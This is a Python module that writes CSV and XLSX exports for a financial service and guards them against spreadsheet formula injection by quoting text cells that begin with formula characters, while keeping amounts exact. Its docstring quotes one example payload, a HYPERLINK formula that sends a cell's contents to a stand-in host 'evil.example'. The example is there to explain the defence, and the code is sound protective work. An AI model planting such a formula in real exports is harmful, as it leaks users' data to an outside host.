"""Every CSV and XLSX file the service or the command line writes goes through here, so
that none carries a live formula (CONTRACT "Personal data and hostile input").

A spreadsheet takes a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return for a formula: a treasury payee written `=HYPERLINK("http://evil.example/?leak="&A1)`
would send the sheet away on a click. Such text is written with a leading `'`.

Cells are typed, so that only text is ever neutralised and numbers stay numbers:
- `str` → text, neutralised;
- `Decimal` (an amount) → a number: `#,##0.00` in XLSX, plain decimal text in CSV, so a
  negative amount is `-50.00`, not `'-50.00`;
- `date` → a date: `yyyy-mm-dd` in XLSX, ISO 8601 in CSV;
- `int` (a count, a line number, a position) → a number; `None` → an empty cell.
A float or a bool is refused: money never passes through a binary fraction in our code.

XLSX is written by XlsxWriter with write_string / write_number / write_datetime, never
write(), so no string is ever interpreted, and in constant_memory mode, so rows go to a
temporary file as they come. write_number is given the Decimal itself: XlsxWriter
formats it with `{:.16G}`, which prints a Decimal's own digits, exact up to the 15
significant digits Excel holds (a ledger amount has at most 14: 12 before the point).
An amount with more — only a sum over an uploaded file could have them — is written as
the text of its exact digits rather than rounded.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import xlsxwriter

Cell = str | int | Decimal | date | None

# What makes a spreadsheet read text as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Excel keeps 15 significant digits of a number; past that it rounds.
EXCEL_DIGITS = 15
MONEY_FORMAT = "#,##0.00"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"


@dataclass(frozen=True)
class Sheet:
    """One worksheet: its title, its rows, and a header row (frozen) if it has one."""

    title: str
    rows: Iterable[Sequence[Cell]]
    header: Sequence[str] | None = None


def neutralised(text: str) -> str:
    """The text as a spreadsheet will show it and never evaluate it."""
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """A CSV file (RFC 4180 line ends) with a header row."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralised(title) for title in header])
    for row in rows:
        writer.writerow([_csv_cell(value) for value in row])
    return out.getvalue()


def _csv_cell(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralised(value)
    if isinstance(value, Decimal):
        return format(_finite(value), "f")
    if isinstance(value, date):  # a datetime too
        return value.isoformat()
    return str(_integer(value))


def xlsx_bytes(*sheets: Sheet) -> bytes:
    """An XLSX workbook of the sheets, in order."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"constant_memory": True})
    formats = _Formats(book)
    for sheet in sheets:
        _write_sheet(book.add_worksheet(sheet.title), sheet, formats)
    book.close()
    return out.getvalue()


class _Formats:
    def __init__(self, book: Any) -> None:
        self.header = book.add_format({"bold": True})
        self.money = book.add_format({"num_format": MONEY_FORMAT})
        self.date = book.add_format({"num_format": DATE_FORMAT})
        self.datetime = book.add_format({"num_format": DATETIME_FORMAT})


def _write_sheet(worksheet: Any, sheet: Sheet, formats: _Formats) -> None:
    first = 0
    if sheet.header is not None:
        worksheet.freeze_panes(1, 0)
        for column, title in enumerate(sheet.header):
            worksheet.write_string(0, column, neutralised(title), formats.header)
        first = 1
    for number, row in enumerate(sheet.rows, start=first):
        for column, value in enumerate(row):
            _write_cell(worksheet, number, column, value, formats)


def _write_cell(worksheet: Any, row: int, column: int, value: Cell, formats: _Formats) -> None:
    if value is None:
        return
    if isinstance(value, str):
        worksheet.write_string(row, column, neutralised(value))
    elif isinstance(value, Decimal):
        if len(_finite(value).as_tuple().digits) > EXCEL_DIGITS:
            worksheet.write_string(row, column, format(value, "f"))
        else:
            worksheet.write_number(row, column, value, formats.money)
    elif isinstance(value, datetime):
        worksheet.write_datetime(row, column, value, formats.datetime)
    elif isinstance(value, date):
        worksheet.write_datetime(row, column, value, formats.date)
    else:
        worksheet.write_number(row, column, _integer(value))


def _finite(amount: Decimal) -> Decimal:
    if not amount.is_finite():
        raise ValueError(f"{amount} is not an amount")
    return amount


def _integer(value: object) -> int:
    """Only a true int is a number here: a float would carry money inexactly, and a bool
    is no number at all."""
    if type(value) is not int:
        raise TypeError(f"a {type(value).__name__} is not a cell: use str, int, Decimal or date")
    return value
